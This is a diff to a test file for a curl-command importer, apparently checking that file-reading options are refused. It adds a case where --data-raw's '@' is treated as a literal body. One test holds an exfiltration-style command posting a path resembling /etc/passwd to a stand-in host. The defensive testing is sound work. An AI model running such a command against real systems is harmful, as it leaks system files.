@@ -9,6 +9,8 @@ from tests.importing.reading import ACCOUNT, BODY, EXAMPLE, MESSAGE, refused, ta
 
 def test_a_refusal_names_the_file_that_is_never_opened() -> None:
     assert refused("curl --data-binary '@/etc/pass wd' https://x").detail == "/etc/pass wd"
+    # Of this option the mark means nothing: what follows is the body itself.
+    assert refused("curl --data-raw @body.json https://x").detail == ""
 
 
 POSTMAN = r"""curl --location 'https://api.nxcloud.com/saas/wa/send' \
